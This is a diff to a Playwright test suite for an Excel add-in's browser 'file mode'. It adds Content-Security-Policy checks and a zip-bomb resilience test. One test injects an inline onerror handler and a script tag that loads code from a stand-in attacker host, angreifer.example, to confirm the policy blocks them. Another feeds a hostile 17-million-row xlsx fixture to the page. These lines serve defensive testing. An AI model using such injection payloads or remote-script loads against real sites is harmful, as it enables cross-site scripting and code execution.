@@ -22,6 +22,7 @@ const DIST = path.join(ROOT, 'dist');
 const SHOTS = path.join(ROOT, 'docs', 'screenshots');
 const DEMO = path.join(ROOT, 'assets', 'demo', 'Digitalisierungsuebersicht_Demo.xlsx');
 const CATALOG = path.join(__dirname, '..', '..', '..', 'shared', 'leika', 'leika_ozg_catalog_nrw_2019.csv');
+const HOSTILE = path.join(ROOT, 'tests', 'fixtures', 'hostile');
 const OFFICE_JS = 'https://appsforoffice.microsoft.com/lib/1/hosted/office.js';
 /** office.js outside Office: loads, reports no host (what the real script does in a plain browser). */
 const OFFICE_STUB = 'window.Office = { HostType: { Excel: "Excel" }, onReady: function (cb) { var info = { host: null, platform: null }; if (cb) cb(info); return Promise.resolve(info); } };';
@@ -108,9 +109,15 @@ maybe('file mode in Chromium', () => {
 
   async function open(officeJs: 'stub' | 'abort', dark = false): Promise<{ page: Page; ms: number }> {
     const context = await browser.newContext({ acceptDownloads: true, viewport: { width: 420, height: 900 }, colorScheme: dark ? 'dark' : 'light', locale: 'de-DE' });
-    await context.route(OFFICE_JS, (route) => (officeJs === 'stub' ? route.fulfill({ contentType: 'text/javascript', body: OFFICE_STUB }) : route.abort()));
-    // Nothing else may leave the machine.
+    // Nothing else may leave the machine. Registered first: Playwright runs the route registered last first.
     await context.route(/^https?:\/\/(?!127\.0\.0\.1)/, (route) => route.abort());
+    await context.route(OFFICE_JS, (route) => (officeJs === 'stub' ? route.fulfill({ contentType: 'text/javascript', body: OFFICE_STUB }) : route.abort()));
+    // Every Content-Security-Policy violation of the page, for the tests to inspect.
+    await context.addInitScript(() => {
+      const w = window as unknown as { cspViolations: string[] };
+      w.cspViolations = [];
+      document.addEventListener('securitypolicyviolation', (e) => w.cspViolations.push(`${e.effectiveDirective} ${e.blockedURI}`));
+    });
     const page = await context.newPage();
     const started = Date.now();
     await page.goto(`${base}/taskpane.html`);
@@ -177,16 +184,50 @@ maybe('file mode in Chromium', () => {
     return JSON.parse(execFileSync(process.execPath, [path.join(ROOT, 'dist-node', 'cli', 'main.js'), file, '--json'], { encoding: 'utf8' }));
   }
 
+  const violations = (page: Page): Promise<string[]> => page.evaluate(() => (window as unknown as { cspViolations: string[] }).cspViolations);
+
   it('reaches file mode within 3 s when office.js loads but reports no host, and reproduces the Monitoring table', async () => {
     const { page, ms } = await open('stub');
+    const requested: string[] = [];
+    page.on('request', (r) => requested.push(r.url()));
     expect(ms).toBeLessThan(3000);
     await page.screenshot({ path: path.join(SHOTS, 'dateimodus-start.png'), fullPage: true });
     const file = await evaluateAndDownload(page);
     await page.screenshot({ path: path.join(SHOTS, 'dateimodus-ergebnis.png'), fullPage: true });
     const table = await monitoringTable(file);
     for (const [label, values] of Object.entries(EXPECTED)) expect([label, table[label]]).toEqual([label, values]);
+    // SPEC §7: nothing requested from any origin but the page's own (chunks, worker) and the Office CDN; no CSP violation on the way
+    expect(requested.filter((u) => !u.startsWith(`${base}/`) && !u.startsWith('blob:') && u !== OFFICE_JS)).toEqual([]);
+    expect(requested.some((u) => /\/leika-file-mode\.[0-9a-f]+\.js$/.test(u))).toBe(true);
+    await expect(violations(page)).resolves.toEqual([]);
     await page.context().close();
   }, 120_000);
+
+  it('carries a Content-Security-Policy that lets office.js and the page run and nothing else', async () => {
+    const { page } = await open('stub');
+    const content = (await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')) ?? '';
+    const policy = Object.fromEntries(content.split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...values]) => [name, values]));
+    expect(policy['script-src']).toEqual(["'self'", 'https://appsforoffice.microsoft.com']);
+    expect(policy['worker-src']).toEqual(["'self'"]);
+    expect(policy['object-src']).toEqual(["'none'"]);
+    // office.js, served from the Office CDN's address, ran under the policy
+    await expect(page.evaluate(() => typeof (window as unknown as { Office?: unknown }).Office)).resolves.toBe('object');
+    // what injected markup could try: an inline handler, a script from elsewhere (no 'unsafe-eval' either: script-src above)
+    const pwned = await page.evaluate(async () => {
+      const w = window as unknown as { pwned?: boolean };
+      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.pwned = true">');
+      const script = document.createElement('script');
+      script.src = 'https://angreifer.example/x.js';
+      document.body.append(script);
+      await new Promise((r) => setTimeout(r, 300));
+      return w.pwned === true;
+    });
+    expect(pwned).toBe(false);
+    const seen = await violations(page);
+    expect(seen).toEqual(expect.arrayContaining([expect.stringMatching(/^script-src-attr /), expect.stringMatching(/^script-src-elem https:\/\/angreifer\.example/)]));
+    await page.context().close();
+  }, 60_000);
+
 
   it('reaches file mode within 3 s when office.js cannot be loaded at all', async () => {
     const { page, ms } = await open('abort', true);
@@ -240,6 +281,26 @@ maybe('file mode in Chromium', () => {
     expect(header).toContain('LeiKa-Bezeichnung (Katalog)');
     await page.getByRole('tab', { name: 'Vergleich' }).click();
     await expect(page.getByText(/^Mit LeiKa-Katalog „leika_ozg_catalog_nrw_2019\.csv“/).count()).resolves.toBe(1);
+    await page.context().close();
+  }, 180_000);
+
+  it('gives a message for a zip bomb (17 million rows from 150 KB) while the page keeps answering', async () => {
+    const { page } = await open('abort');
+    await page.getByLabel('Arbeitsmappe öffnen').setInputFiles(path.join(HOSTILE, 'bombe-17-mio-zeilen.xlsx'));
+    await page.getByRole('button', { name: 'Auswerten', exact: true }).click();
+    const alert = page.getByRole('alert');
+    let slowest = 0;
+    const until = Date.now() + 90_000;
+    while ((await alert.count()) === 0 && Date.now() < until) {
+      const asked = Date.now();
+      await page.evaluate(() => document.title);
+      slowest = Math.max(slowest, Date.now() - asked);
+      await page.waitForTimeout(200);
+    }
+    expect(slowest).toBeLessThan(1000);
+    await expect(alert.textContent()).resolves.toMatch(/Zeile|1\.048\.576|zu groß|Keine Amtsblätter/);
+    // still usable: the next file is evaluated
+    await evaluateAndDownload(page);
     await page.context().close();
   }, 180_000);
 
